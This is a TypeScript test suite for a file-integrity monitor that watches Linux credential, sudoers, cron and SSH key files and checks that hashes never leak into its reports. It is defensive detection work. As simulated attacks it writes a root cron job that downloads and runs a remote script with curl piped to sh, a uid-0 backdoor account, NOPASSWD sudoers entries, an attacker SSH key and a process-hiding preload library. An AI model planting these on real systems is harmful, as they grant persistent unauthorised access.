import { test, describe, beforeEach, afterEach } from "node:test";
import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import { createHash } from "node:crypto";
import { appendFile, chmod, chown, mkdir, mkdtemp, readFile, rename, rm, unlink, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileRecord, recordId, type FileRecord } from "../../protocol/index.ts";
import { DEFAULT_SENSITIVE_PATHS, MAX_DIFF_LINES, SensitiveFileWatch, type SensitiveFileWatchOptions } from "./sensitive-files.ts";

const PASSWD = [
  "root:x:0:0:root:/root:/bin/bash",
  "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
  "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin",
  "bob:x:1000:1000:Bob,,,:/home/bob:/bin/bash",
].join("\n") + "\n";

// Realistic-looking hashes: none of this text may ever appear in a record.
const ROOT_HASH = "$y$j9T$Qm1tXhB3kRq0Z8wLc5Vn1.$u8K2sJ9dP3xW6tYq0rLmNbVc7eZa4hGf1iOp2sD5kE/";
const BOB_HASH = "$6$saltsaltsalt$Xq7yXkQ2mVJ1c3nLr8sTg0pWbE4fZa9hU6iOk5dR2jY1mNcB7vLx3qW8eT0yP4sA9gH2jK6lZ1xC5vB8nM3q.";
const BOB_NEW_HASH = "$y$j9T$NewSaltNewSalt0$Zr4pW8xK2mN6bV0cQ3tY7uI1oP5aS9dF2gH6jK0lL8z";
const SHADOW = [`root:${ROOT_HASH}:19700:0:99999:7:::`, "daemon:*:19700:0:99999:7:::", "www-data:*:19700:0:99999:7:::", `bob:${BOB_HASH}:19700:0:99999:7:::`].join("\n") + "\n";
const KEY1 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGk0Zm9vYmFyYmF6cXV4cXV1eHh4eHh4eHh4eHh4eHh4 bob@laptop";
const KEY2 = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEV2aWxldmlsZXZpbGV2aWxldmlsZXZpbGV2aWxldmls attacker@kali";

let root = "";
let now = 0;
const clock = { now: () => now };
const p = (hostPath: string) => join(root, hostPath);
const sha256 = (b: string | Buffer) => createHash("sha256").update(b).digest("hex");

async function put(hostPath: string, text: string, mode = 0o644): Promise<void> {
  await mkdir(join(p(hostPath), ".."), { recursive: true });
  await writeFile(p(hostPath), text, { mode });
  await chmod(p(hostPath), mode);
}

/** A watch with rescans only: every test drives it through rescanNow(), as the periodic rescan would. */
async function started(o: Partial<SensitiveFileWatchOptions> = {}): Promise<{ w: SensitiveFileWatch; got: FileRecord[] }> {
  const got: FileRecord[] = [];
  const w = new SensitiveFileWatch({ root, clock, watch: false, rescanMs: 0, onRecords: (r) => void got.push(...r), ...o });
  await w.start();
  return { w, got };
}

/** Every record is a valid protocol `fileRecord`. */
function valid(records: FileRecord[]): FileRecord[] {
  for (const r of records) {
    const v = fileRecord.safeParse(r);
    assert.ok(v.success, `${JSON.stringify(r)}: ${v.success ? "" : v.error.message}`);
  }
  return records;
}

function only(records: FileRecord[], path: string): FileRecord {
  const rs = valid(records).filter((r) => r.file.path === path);
  assert.equal(rs.length, 1, `one record for ${path}, got ${JSON.stringify(records)}`);
  return rs[0]!;
}

beforeEach(async () => {
  now = Date.now() + 60_000;
  root = await mkdtemp(join(tmpdir(), "hw-sensitive-"));
  await put("/etc/passwd", PASSWD);
  await put("/etc/shadow", SHADOW, 0o640);
  await put("/etc/group", "root:x:0:\nsudo:x:27:bob\n");
  await put("/etc/gshadow", "root:*::\nsudo:!::bob\n", 0o640);
  await put("/etc/sudoers", "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) ALL\n", 0o440);
  await mkdir(p("/etc/sudoers.d"), { recursive: true });
  await put("/etc/crontab", "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n");
  await put("/etc/cron.d/e2scrub_all", "30 3 * * 0 root test -e /run/systemd/system || /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n");
  await mkdir(p("/var/spool/cron/crontabs"), { recursive: true });
  await put("/etc/ssh/sshd_config", "Include /etc/ssh/sshd_config.d/*.conf\nPermitRootLogin prohibit-password\n");
  await put("/home/bob/.ssh/authorized_keys", KEY1 + "\n", 0o600);
  await mkdir(p("/root"), { recursive: true });
});

afterEach(async () => {
  await rm(root, { recursive: true, force: true });
});

describe("sensitive files", () => {
  test("AGT-6 the first scan is the baseline (nothing reported); the usual files and every account's authorized_keys are watched", async () => {
    const { w, got } = await started();
    for (const t of ["/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/sudoers", "/etc/crontab", "/etc/cron.d/e2scrub_all", "/etc/ld.so.preload", "/etc/ssh/sshd_config", "/home/bob/.ssh/authorized_keys", "/root/.ssh/authorized_keys", "/var/www/.ssh/authorized_keys", "/home/bob/.ssh/authorized_keys2"]) {
      assert.ok(w.targets.includes(t), t);
    }
    for (const pat of ["/etc/sudoers.d/*", "/var/spool/cron/crontabs/*", "/var/spool/cron/*", "~/.ssh/authorized_keys"]) assert.ok(DEFAULT_SENSITIVE_PATHS.includes(pat), pat);
    assert.deepEqual(await w.rescanNow(), []);
    assert.deepEqual(got, []);
    await w.stop();
  });

  test("AGT-6 a uid-0 account appended to /etc/passwd: modified, with the added line, the host path and the new hash", async () => {
    const { w, got } = await started();
    await appendFile(p("/etc/passwd"), "toor:x:0:0::/root:/bin/bash\n");
    const recs = await w.rescanNow();
    assert.deepEqual(recs, got);
    const r = only(recs, "/etc/passwd");
    assert.equal(r.kind, "file");
    assert.equal(r.event.action, "modified");
    assert.deepEqual(r.change?.added, ["toor:x:0:0::/root:/bin/bash"]);
    assert.equal(r.change?.removed, undefined);
    assert.equal(r.change?.summary, "line added: toor:x:0:0::/root:/bin/bash");
    assert.equal(r.file.category, "sensitive");
    assert.equal(r.file.hash?.sha256, sha256(await readFile(p("/etc/passwd"))));
    assert.equal(r.file.size, (PASSWD + "toor:x:0:0::/root:/bin/bash\n").length);
    assert.equal(r.file.mode, "0644");
    assert.ok(!r.file.path.includes(root));
    assert.ok(r.ts > 0 && r.ts <= now);
    // nothing new: nothing reported
    assert.deepEqual(await w.rescanNow(), []);
    await w.stop();
  });

  test("AGT-6 a key added to a user's authorized_keys: the added line (public keys may leave)", async () => {
    const { w } = await started();
    await appendFile(p("/home/bob/.ssh/authorized_keys"), KEY2 + "\n");
    const r = only(await w.rescanNow(), "/home/bob/.ssh/authorized_keys");
    assert.equal(r.event.action, "modified");
    assert.deepEqual(r.change?.added, [KEY2]);
    assert.equal(r.file.mode, "0600");
    await w.stop();
  });

  test("AGT-6 a file replaced by rename (write a temporary file, rename it over: vipw, useradd, editors) is seen", async () => {
    const { w } = await started();
    const text = "Defaults env_reset\nroot ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL:ALL) NOPASSWD: ALL\nbob ALL=(ALL) NOPASSWD: ALL\n";
    await writeFile(p("/etc/sudoers.tmp"), text, { mode: 0o440 });
    await rename(p("/etc/sudoers.tmp"), p("/etc/sudoers"));
    await writeFile(p("/etc/passwd+"), PASSWD.replace("bob:x:1000:1000", "bob:x:0:0"));
    await rename(p("/etc/passwd+"), p("/etc/passwd"));
    const recs = await w.rescanNow();
    const s = only(recs, "/etc/sudoers");
    assert.equal(s.event.action, "modified");
    assert.deepEqual(s.change?.added?.sort(), ["%sudo ALL=(ALL:ALL) NOPASSWD: ALL", "bob ALL=(ALL) NOPASSWD: ALL"]);
    assert.deepEqual(s.change?.removed, ["%sudo ALL=(ALL:ALL) ALL"]);
    const pw = only(recs, "/etc/passwd");
    assert.equal(pw.change?.summary, "line changed: bob:x:1000:1000:Bob,,,:/home/bob:/bin/bash → bob:x:0:0:Bob,,,:/home/bob:/bin/bash");
    // the temporary files were never targets
    assert.equal(recs.length, 2);
    await w.stop();
  });

  test("AGT-6 shadow and gshadow: only the names of accounts whose entry changed leave, never a hash", async () => {
    const { w } = await started();
    const stray = "$6$strayhash$ThisLineIsAHashPastedWithoutAName0123456789abcdefABCDEF";
    await writeFile(p("/etc/shadow"), [
      `root:${ROOT_HASH}:19700:0:99999:7:::`,
      "daemon:*:19700:0:99999:7:::",
      `bob:${BOB_NEW_HASH}:19701:0:99999:7:::`,
      "toor::19701:0:99999:7:::",
      stray,
    ].join("\n") + "\n");
    await writeFile(p("/etc/gshadow"), "root:*::\nsudo:$6$grp$GroupPasswordHash0123456789::bob,toor\n");
    const recs = await w.rescanNow();
    const r = only(recs, "/etc/shadow");
    assert.equal(r.event.action, "modified");
    assert.equal(r.change?.summary, "password changed for bob; entry added for toor (password empty: no password needed); entry removed for www-data; 1 entry with an unusual name changed (not named)");
    assert.equal(r.change?.added, undefined);
    assert.equal(r.change?.removed, undefined);
    const g = only(recs, "/etc/gshadow");
    assert.equal(g.change?.summary, "password changed for sudo (now set)");
    const json = JSON.stringify(recs);
    for (const secret of [ROOT_HASH, BOB_HASH, BOB_NEW_HASH, stray, "$y$", "$6$", "j9T", "saltsalt", "GroupPasswordHash", "strayhash", "19701"]) {
      assert.ok(!json.includes(secret), `record text holds ${secret}`);
    }
    // locking an account says so, still without the hash
    await writeFile(p("/etc/shadow"), `root:!${ROOT_HASH}:19700:0:99999:7:::\n`);
    const l = only(await w.rescanNow(), "/etc/shadow");
    assert.match(l.change!.summary, /^password changed for root \(now locked\); entry removed for daemon; entry removed for bob; entry removed for toor/);
    assert.ok(!JSON.stringify(l).includes("j9T"));
    await w.stop();
  });

  test("AGT-6 a cron file created in cron.d (and a user crontab), then renamed, then deleted", async () => {
    const { w } = await started();
    await put("/etc/cron.d/.sysupd", "*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n");
    await put("/var/spool/cron/crontabs/bob", "@reboot /home/bob/.cache/kworker\n", 0o600);
    let recs = await w.rescanNow();
    const c = only(recs, "/etc/cron.d/.sysupd");
    assert.equal(c.event.action, "created");
    assert.deepEqual(c.change?.added, ["*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh"]);
    assert.equal(c.change?.summary, "created: */5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh");
    assert.equal(only(recs, "/var/spool/cron/crontabs/bob").event.action, "created");
    await rename(p("/etc/cron.d/.sysupd"), p("/etc/cron.d/sysstat2"));
    recs = valid(await w.rescanNow());
    assert.equal(recs.length, 1);
    assert.equal(recs[0]!.event.action, "renamed");
    assert.equal(recs[0]!.file.path, "/etc/cron.d/sysstat2");
    assert.equal(recs[0]!.change?.summary, "renamed from /etc/cron.d/.sysupd");
    await unlink(p("/etc/cron.d/sysstat2"));
    const d = only(await w.rescanNow(), "/etc/cron.d/sysstat2");
    assert.equal(d.event.action, "deleted");
    assert.equal(d.ts, now);
    assert.deepEqual(d.change?.removed, ["*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh"]);
    assert.equal(d.file.hash?.sha256, sha256("*/5 * * * * root curl -fsSL http://203.0.113.9/x.sh | sh\n"));
    await w.stop();
  });

  test("AGT-6 a missed event (no watch at all here, as when inotify drops one) is caught by the rescan", async () => {
    const { w, got } = await started();
    await put("/etc/ld.so.preload", "/usr/local/lib/libprocesshider.so\n");
    assert.deepEqual(got, []); // nothing tells the watch...
    const r = only(await w.rescanNow(), "/etc/ld.so.preload"); // ...until the rescan
    assert.equal(r.event.action, "created");
    assert.deepEqual(got, [r]);
    await w.stop();
  });

  test("AGT-6 homes are re-read when passwd changes: a new account's keys are reported, a removed account's are dropped", async () => {
    const { w } = await started();
    await put("/home/eve/.ssh/authorized_keys", KEY2 + "\n", 0o600);
    assert.deepEqual(await w.rescanNow(), []); // eve is no account yet: not a target
    await writeFile(p("/etc/passwd"), PASSWD.replace("bob:x:1000:1000:Bob,,,:/home/bob:/bin/bash\n", "") + "eve:x:0:0::/home/eve:/bin/bash\n");
    const recs = await w.rescanNow();
    const k = only(recs, "/home/eve/.ssh/authorized_keys");
    assert.equal(k.event.action, "created");
    assert.deepEqual(k.change?.added, [KEY2]);
    assert.equal(only(recs, "/etc/passwd").event.action, "modified");
    assert.ok(!recs.some((r) => r.file.path.startsWith("/home/bob/")), "bob's keys are no longer watched, not deleted");
    assert.ok(!w.targets.includes("/home/bob/.ssh/authorized_keys"));
    await w.stop();
  });

  test("AGT-6 sshd_config's AuthorizedKeysFile is followed: keys kept elsewhere are watched too", async () => {
    await put("/etc/ssh/sshd_config", "AuthorizedKeysFile /etc/ssh/keys/%u .ssh/authorized_keys\n");
    const { w } = await started();
    assert.ok(w.targets.includes("/etc/ssh/keys/bob"));
    assert.ok(w.targets.includes("/etc/ssh/keys/root"));
    await put("/etc/ssh/keys/root", KEY2 + "\n");
    const r = only(await w.rescanNow(), "/etc/ssh/keys/root");
    assert.equal(r.event.action, "created");
    await w.stop();
  });

  test("AGT-6 mode and owner changes alone are attributes", async () => {
    const { w } = await started();
    await chmod(p("/etc/sudoers"), 0o666);
    let r = only(await w.rescanNow(), "/etc/sudoers");
    assert.equal(r.event.action, "attributes");
    assert.equal(r.change?.summary, "mode 0440 → 0666");
    assert.equal(r.file.mode, "0666");
    if (process.getuid?.() === 0) {
      await chown(p("/etc/sudoers"), 1000, 0);
      r = only(await w.rescanNow(), "/etc/sudoers");
      assert.equal(r.event.action, "attributes");
      assert.equal(r.change?.summary, "owner root → bob");
      assert.equal(r.file.owner, "bob");
    }
    await w.stop();
  });

  test("AGT-6 bounded: at most 50 lines of 1 KiB listed; files over 1 MiB hashed without a line diff", async () => {
    const { w } = await started();
    const many = Array.from({ length: 200 }, (_, i) => `* * * * * root /tmp/.x/${i} ${"A".repeat(i === 0 ? 5000 : 10)}`).join("\n") + "\n";
    await put("/etc/cron.d/many", many);
    const big = "# " + "x".repeat(2 * 1024 * 1024) + "\n";
    await put("/etc/cron.d/big", big);
    const recs = await w.rescanNow();
    const m = only(recs, "/etc/cron.d/many");
    assert.equal(m.change?.added?.length, MAX_DIFF_LINES);
    assert.equal(m.change?.added?.[0]!.length, 1024);
    assert.equal(m.change?.summary, "created with 200 lines");
    const b = only(recs, "/etc/cron.d/big");
    assert.equal(b.file.hash?.sha256, sha256(big));
    assert.equal(b.file.size, Buffer.byteLength(big));
    assert.equal(b.change?.added, undefined);
    await put("/etc/cron.d/big", big + "* * * * * root /tmp/evil\n");
    const b2 = only(await w.rescanNow(), "/etc/cron.d/big");
    assert.equal(b2.event.action, "modified");
    assert.equal(b2.change?.summary, "content changed (over 1 MiB: not compared line by line)");
    assert.equal(b2.change?.added, undefined);
    await w.stop();
  });

  test("AGT-6 a FIFO planted under a watched name does not hang the watch", async () => {
    const { w } = await started();
    await mkdir(p("/root/.ssh"), { recursive: true });
    execFileSync("mkfifo", [p("/root/.ssh/authorized_keys")]);
    const r = only(await w.rescanNow(), "/root/.ssh/authorized_keys");
    assert.equal(r.event.action, "created");
    assert.equal(r.change?.summary, "created: not a regular file");
    assert.equal(r.file.hash, undefined);
    await w.stop();
  });

  test("AGT-6 record ids: unique, valid, and stable (the same observed change gives the same id)", async () => {
    const a = await started();
    const b = await started();
    await appendFile(p("/etc/passwd"), "toor:x:0:0::/root:/bin/bash\n");
    await appendFile(p("/home/bob/.ssh/authorized_keys"), KEY2 + "\n");
    await put("/etc/sudoers.d/90-backdoor", "bob ALL=(ALL) NOPASSWD: ALL\n", 0o440);
    const ra = await a.w.rescanNow();
    const rb = await b.w.rescanNow();
    assert.equal(ra.length, 3);
    assert.deepEqual(ra.map((r) => r.id).sort(), rb.map((r) => r.id).sort());
    assert.equal(new Set(ra.map((r) => r.id)).size, 3);
    for (const r of ra) assert.ok(recordId.safeParse(r.id).success, r.id);
    // the same file changed again later gives a new id
    await appendFile(p("/etc/passwd"), "toor2:x:0:0::/root:/bin/bash\n");
    const again = only(await a.w.rescanNow(), "/etc/passwd");
    assert.ok(!ra.some((r) => r.id === again.id));
    await a.w.stop();
    await b.w.stop();
  });

  test("AGT-6 configurable list: only the given paths are watched", async () => {
    const { w } = await started({ paths: ["/etc/passwd", "/etc/cron.d/*"] });
    assert.deepEqual(w.targets, ["/etc/cron.d/e2scrub_all", "/etc/passwd"]);
    await appendFile(p("/etc/sudoers"), "bob ALL=(ALL) NOPASSWD: ALL\n");
    assert.deepEqual(await w.rescanNow(), []);
    await w.stop();
  });
});
